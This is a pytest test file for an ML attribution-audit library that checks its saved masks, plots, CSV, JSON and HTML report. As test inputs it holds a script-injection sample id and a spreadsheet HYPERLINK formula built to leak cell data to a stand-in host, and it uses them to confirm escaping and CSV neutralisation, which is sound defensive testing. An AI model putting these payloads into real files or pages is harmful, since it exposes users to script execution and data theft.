"""The review artifacts: masks, sheets, plots, summary.json, per_sample.csv and report.html."""

from __future__ import annotations

import base64
import csv
import json
from html.parser import HTMLParser
from pathlib import Path

import matplotlib
import numpy as np
import pytest
import torch
import torch.nn as nn
import yaml

from mlflow_xai.artifacts import write_artifacts
from mlflow_xai.artifacts.review_plots import MAX_CLASSES_SHOWN, class_summary_figure
from mlflow_xai.artifacts.viz import SIGNS, attribution_sheet, colour_limits, heat_rgba, sign_map
from mlflow_xai.config import dump_config, load_config
from mlflow_xai.datasets import make_shapes
from mlflow_xai.engine import audit
from mlflow_xai.probe import ProbeSet

PNG = b"\x89PNG\r\n\x1a\n"
HOSTILE_ID = '<script>alert("x")</script>&'
FORMULA_ID = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
CONFIG = {
    "batch_size": 16,
    "methods": {
        # Few steps on a ReLU network: some samples miss 1% completeness, so the audit fails.
        "integrated_gradients": {"n_steps": 4, "rule": "trapezoid"},
        "occlusion": {"sliding_window_shapes": [3, 4, 4], "strides": [3, 4, 4]},
    },
    "artifacts": {"sheet_samples": 3},
}


def _tiny_cnn() -> nn.Module:
    torch.manual_seed(0)
    return nn.Sequential(
        nn.Conv2d(3, 4, 3, padding=1),
        nn.ReLU(),
        nn.MaxPool2d(4),
        nn.Flatten(),
        nn.Linear(4 * 4 * 4, 4),
    )


@pytest.fixture(scope="module")
def image_audit(tmp_path_factory):
    data = make_shapes(24, size=16, seed=5)
    ids = np.array([f"s{i:02d}" for i in range(22)] + [FORMULA_ID, HOSTILE_ID])
    probe = ProbeSet(data.images, data.labels, data.masks, ids)
    report = audit(_tiny_cnn(), probe, CONFIG)
    folder = write_artifacts(report, tmp_path_factory.mktemp("xai"))
    return report, folder


def _png(path: Path) -> bool:
    return path.is_file() and path.read_bytes()[:8] == PNG


def test_masks_reload_with_ids(image_audit):
    report, folder = image_audit
    for name, result in report.methods.items():
        with np.load(folder / name / "masks.npz") as saved:
            assert saved["attributions"].dtype == np.float16
            np.testing.assert_array_equal(saved["attributions"], result.attributions)
            assert saved["ids"].tolist() == report.probe.ids.tolist()


def test_sheets_worst_and_plots_are_written(image_audit):
    report, folder = image_audit
    assert report.methods["integrated_gradients"].verdict == "fail"
    for name in ("integrated_gradients", "occlusion"):
        assert _png(folder / name / "sheet.png")
    assert _png(folder / "integrated_gradients" / "worst.png")
    assert not (folder / "occlusion" / "worst.png").exists()  # no completeness check, no "worst"
    for figure in ("ig_completeness_vs_steps", "ig_output_along_path", "ig_gradient_along_path"):
        assert _png(folder / "integrated_gradients" / f"{figure}.png")
    for plot in ("completeness_error_hist", "steps_hist", "class_summary"):
        assert _png(folder / "plots" / f"{plot}.png"), plot


def test_worst_indices_are_the_largest_completeness_errors(image_audit):
    report, _ = image_audit
    result = report.methods["integrated_gradients"]
    errors = result.completeness.rel_error
    worst = result.worst_indices(5)
    assert len(worst) == 5
    np.testing.assert_array_equal(errors[worst], np.sort(errors[np.isfinite(errors)])[::-1][:5])
    assert len(report.methods["occlusion"].worst_indices(5)) == 0


def test_failure_reason_counts_the_failed_samples(image_audit):
    report, _ = image_audit
    c = report.methods["integrated_gradients"].completeness
    failed = int((c.rel_error > 0.01).sum())
    assert 0 < failed < len(report.probe)
    assert report.failure_reasons == {
        "integrated_gradients": [f"{failed} of {len(report.probe)} samples above 1% completeness error"]
    }


def test_summary_json_and_per_sample_csv_agree_with_metrics(image_audit):
    report, folder = image_audit
    metrics = report.metrics()
    summary = json.loads((folder / "summary.json").read_text())
    assert summary["metrics"] == metrics
    assert summary["verdict"] == "fail"
    assert summary["methods"] == {"integrated_gradients": "fail", "occlusion": "n/a"}
    assert summary["failure_reasons"] == report.failure_reasons

    with open(folder / "per_sample.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    # Ids a spreadsheet would run as formulas get a leading quote in the CSV, and only there.
    expected = [("'" + i) if i == FORMULA_ID else i for i in report.probe.ids.tolist()]
    assert [r["id"] for r in rows] == expected
    assert FORMULA_ID in report.probe.ids.tolist() and summary["metrics"] == metrics
    assert [int(r["label"]) for r in rows] == report.probe.labels.tolist()
    assert [int(r["prediction"]) for r in rows] == report.predictions.tolist()
    errors = np.array([float(r["integrated_gradients/completeness_rel_error"]) for r in rows])
    prefix = "xai/integrated_gradients/"
    assert np.median(errors) == pytest.approx(metrics[prefix + "completeness_rel_error_median"])
    assert errors.max() == pytest.approx(metrics[prefix + "completeness_rel_error_max"])
    passed = [r["integrated_gradients/status"] == "pass" for r in rows]
    assert np.mean(passed) == pytest.approx(metrics[prefix + "completeness_pass_fraction"])
    steps = np.array([float(r["integrated_gradients/steps"]) for r in rows])
    assert steps.mean() == pytest.approx(metrics[prefix + "steps_mean"])


def test_per_class_summary(image_audit):
    report, folder = image_audit
    labels, predictions = report.probe.labels, report.predictions
    errors = report.methods["integrated_gradients"].completeness.rel_error
    rows = report.class_summary()
    assert [r["class"] for r in rows] == sorted(set(labels.tolist()))
    for row in rows:
        member = labels == row["class"]
        assert row["count"] == member.sum()
        assert row["accuracy"] == pytest.approx((predictions[member] == labels[member]).mean())
        median = row["integrated_gradients/completeness_rel_error_median"]
        assert median == pytest.approx(np.median(errors[member]))
    summary = json.loads((folder / "summary.json").read_text())
    assert len(summary["per_class"]) == len(rows)
    for saved, row in zip(summary["per_class"], rows, strict=True):
        assert saved == pytest.approx(row)


def test_provenance(image_audit):
    report, folder = image_audit
    record = json.loads((folder / "summary.json").read_text())["provenance"]
    assert set(record["versions"]) == {"mlflow-xai", "mlflow", "torch", "captum", "numpy"}
    assert torch.__version__.startswith(record["versions"]["torch"])
    assert record["tf32_matmul"] is torch.backends.cuda.matmul.allow_tf32
    assert record["probe_sha256"] == report.probe_sha256 == report.probe.sha256()
    assert record["seed"] == report.config.seed
    assert record["compute_dtype"] == "float32" and record["mask_dtype"] == "float16"
    assert record["config_yaml"] == dump_config(report.config)
    assert yaml.safe_load(record["config_yaml"])["artifacts"]["sheet_samples"] == 3


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_report_html_is_self_contained_and_escaped(image_audit):
    report, folder = image_audit
    html = (folder / "report.html").read_text(encoding="utf-8")
    page = _Page()
    page.feed(html)
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"script", "link", "iframe", "object", "embed", "a"}
    images = [attrs["src"] for tag, attrs in page.tags if tag == "img"]
    # 2 sheets, 1 worst, 3 convergence figures, 2 histograms, the per-class figure
    assert len(images) == 9
    for src in images:
        assert src.startswith("data:image/png;base64,")
        assert base64.b64decode(src.split(",", 1)[1])[:8] == PNG
    assert "http://" not in html and "https://" not in html and "url(" not in html
    # The hostile sample id is text on the page, never markup.
    assert HOSTILE_ID not in html
    text = "".join(page.text)
    # It appears in the worst-samples table only if it is among the worst; the config is always there.
    assert "integrated_gradients" in text and "Provenance" in text
    assert report.probe_sha256 in text
    assert "samples above 1% completeness error" in text


def test_hostile_id_is_escaped_where_shown(image_audit):
    report, folder = image_audit
    from mlflow_xai.artifacts.report_html import render_report_html

    summary = json.loads((folder / "summary.json").read_text())
    # Every worst-samples table lists at most ten ids: with the hostile id made the worst, it is shown.
    result = report.methods["integrated_gradients"]
    original = result.completeness.rel_error.copy()
    result.completeness.rel_error[-1] = np.inf
    try:
        html = render_report_html(report, folder, summary)
    finally:
        result.completeness.rel_error[:] = original
    assert HOSTILE_ID not in html
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&amp;" in html


# --------------------------------------------------------------------------------------------------
# Heat maps: sign modes, colour scales, all-zero maps


def test_sign_modes_follow_captum():
    attr = np.array([[[1.0, -2.0], [0.5, 0.0]], [[1.0, 0.0], [-1.0, 0.0]]])  # (C=2, H=2, W=2)
    summed = np.array([[2.0, -2.0], [-0.5, 0.0]])
    np.testing.assert_array_equal(sign_map(attr, "all"), summed)
    np.testing.assert_array_equal(sign_map(attr, "positive"), [[2.0, 0.0], [0.0, 0.0]])
    np.testing.assert_array_equal(sign_map(attr, "negative"), [[0.0, 2.0], [0.5, 0.0]])
    np.testing.assert_array_equal(sign_map(attr, "absolute_value"), np.abs(summed))
    with pytest.raises(ValueError, match="sign must be one of"):
        sign_map(attr, "both")


def test_colour_scale_per_image_and_fixed():
    heat = np.array([[0.5, -0.25], [0.0, 0.1]])
    assert colour_limits(heat, "all", None) == (-0.5, 0.5)
    assert colour_limits(np.abs(heat), "absolute_value", None) == (0.0, 0.5)
    assert colour_limits(heat, "all", 2.0) == (-2.0, 2.0)
    rdbu = matplotlib.colormaps["RdBu_r"]
    per_image = heat_rgba(heat, "all", None)
    fixed = heat_rgba(heat, "all", 2.0)
    np.testing.assert_allclose(per_image[0, 0], rdbu(1.0))  # the largest value: the end of the map
    np.testing.assert_allclose(fixed[0, 0], rdbu(0.5 + 0.5 / 4))  # 0.5 on a +-2 scale
    saturated = heat_rgba(np.array([[10.0]]), "positive", 2.0)
    np.testing.assert_allclose(saturated[0, 0], matplotlib.colormaps["Greens"](1.0))


@pytest.mark.parametrize("sign", SIGNS)
def test_all_zero_map_renders_as_zero(sign, tmp_path):
    zero = np.zeros((2, 2, 8, 8))
    heat = sign_map(zero[0], sign)
    rgba = heat_rgba(heat, sign, None)
    zero_colour = 0.5 if sign == "all" else 0.0  # the middle of a diverging map, else its start
    cmap = {"all": "RdBu_r", "positive": "Greens", "negative": "Reds", "absolute_value": "Blues"}[sign]
    assert np.isfinite(rgba).all()
    np.testing.assert_allclose(rgba, np.broadcast_to(matplotlib.colormaps[cmap](zero_colour), rgba.shape))
    images = np.random.default_rng(0).random((2, 3, 8, 8))
    path = attribution_sheet(
        images, zero, tmp_path / "zero.png", title="zero", captions=["a", "b"], sign=sign
    )
    assert _png(path)


def test_sign_and_colour_scale_reach_the_sheets(tmp_path):
    data = make_shapes(4, size=16, seed=1)
    config = {**CONFIG, "artifacts": {"sheet_samples": 2, "sign": "negative", "color_scale": 0.5}}
    report = audit(_tiny_cnn(), ProbeSet(data.images, data.labels), config)
    write_artifacts(report, tmp_path)
    html = (tmp_path / "report.html").read_text()
    assert "sign mode <code>negative</code>" in html and "fixed, bound 0.5" in html


# --------------------------------------------------------------------------------------------------
# Tabular probes


@pytest.mark.parametrize("named", [True, False])
def test_tabular_probe_gets_feature_bars_and_csv(named, tmp_path):
    rng = np.random.default_rng(0)
    x = rng.normal(size=(30, 25))
    weights = np.linspace(-2.0, 3.0, 25)
    model = nn.Linear(25, 2).double()
    with torch.no_grad():
        model.weight.zero_()
        model.weight[1] = torch.from_numpy(weights)
        model.bias.zero_()
    probe = ProbeSet(x)
    names = [f"feature_{i}" for i in range(25)]
    if named:  # ProbeSet may carry feature_names; set it whatever this ProbeSet version declares
        object.__setattr__(probe, "feature_names", tuple(names))
    config = {
        "target": 1,
        "methods": {"integrated_gradients": {"n_steps": 4}},
        "artifacts": {"mask_dtype": "float32"},
    }
    report = audit(model, probe, config)
    write_artifacts(report, tmp_path)
    assert _png(tmp_path / "integrated_gradients" / "feature_attributions.png")
    assert not (tmp_path / "integrated_gradients" / "sheet.png").exists()
    with open(tmp_path / "integrated_gradients" / "feature_attributions.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    # IG of a linear model from a zero baseline is x * w exactly.
    expected = np.abs(x * weights).mean(axis=0)
    order = np.argsort(-expected)
    shown = names if named else [f"f{i}" for i in range(25)]
    assert [r["feature"] for r in rows] == [shown[i] for i in order]
    np.testing.assert_allclose([float(r["mean_abs_attribution"]) for r in rows], expected[order], rtol=1e-3)
    np.testing.assert_allclose(
        [float(r["mean_attribution"]) for r in rows], (x * weights).mean(axis=0)[order], rtol=1e-3, atol=1e-4
    )
    summary = json.loads((tmp_path / "summary.json").read_text())
    assert summary["provenance"]["compute_dtype"] == "float64"  # the model's own precision
    html = (tmp_path / "report.html").read_text()
    assert "Feature attributions" in html


def test_config_rejects_bad_artifact_options():
    with pytest.raises(Exception, match="artifacts.sign"):
        load_config({"artifacts": {"sign": "both"}})
    with pytest.raises(Exception, match="artifacts.color_scale"):
        load_config({"artifacts": {"color_scale": 0.0}})
    assert load_config({"artifacts": {"color_scale": 2.5}}).artifacts.color_scale == 2.5


def test_class_summary_figure_stays_readable_with_many_classes(tmp_path):
    rows = [{"class": i, "count": i % 7 + 1, "accuracy": 0.5} for i in range(300)]
    path = class_summary_figure(rows, tmp_path / "classes.png")
    height = int.from_bytes(path.read_bytes()[20:24], "big")  # PNG IHDR: width, then height
    few = class_summary_figure(rows[:MAX_CLASSES_SHOWN], tmp_path / "few.png")
    assert height == int.from_bytes(few.read_bytes()[20:24], "big")


class _ConstantModel(nn.Module):
    """The same scores for every input: F(x) == F(x') for every sample, a degenerate baseline."""

    def __init__(self) -> None:
        super().__init__()
        self.scale = nn.Parameter(torch.zeros(1))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.zeros(len(x), 4) + self.scale * x.flatten(1).sum(1, keepdim=True) * 0.0


def test_only_degenerate_baselines_still_give_every_artifact(tmp_path):
    inputs = np.random.default_rng(0).random((5, 3, 16, 16), dtype=np.float32)
    config = {"methods": {"integrated_gradients": {"n_steps": 4}}, "artifacts": {"sheet_samples": 2}}
    report = audit(_ConstantModel(), inputs, config)
    write_artifacts(report, tmp_path)
    assert _png(tmp_path / "integrated_gradients" / "ig_completeness_vs_steps.png")
    assert not (tmp_path / "integrated_gradients" / "worst.png").exists()  # nothing judged, no "worst"
    summary = json.loads((tmp_path / "summary.json").read_text())
    reason = "all 5 samples have a degenerate baseline: completeness cannot be judged"
    assert summary["failure_reasons"] == {"integrated_gradients": [reason]}
    assert reason in (tmp_path / "report.html").read_text()


def test_metrics_are_computed_once_per_report(tmp_path, monkeypatch):
    """summary.json and report.html (and the command line, and tracking) read one set of metrics;
    the object-mass fractions behind them read every attribution, so they are computed once."""
    from mlflow_xai.report import audit_report

    data = make_shapes(6, size=16, seed=4)
    probe = ProbeSet(data.images, data.labels, data.masks)
    report = audit(_tiny_cnn(), probe, {"methods": {"saliency": {}}, "artifacts": {"sheet_samples": 2}})
    calls = []
    original = audit_report.object_mass_fraction
    monkeypatch.setattr(
        audit_report, "object_mass_fraction", lambda *a, **k: calls.append(1) or original(*a, **k)
    )
    first = report.metrics()
    first["xai/saliency/seconds"] = -1.0  # a caller's changes stay in its copy
    write_artifacts(report, tmp_path / "xai")
    assert len(calls) == 1
    assert report.metrics()["xai/saliency/seconds"] >= 0
    summary = json.loads((tmp_path / "xai" / "summary.json").read_text())
    assert summary["metrics"] == report.metrics()
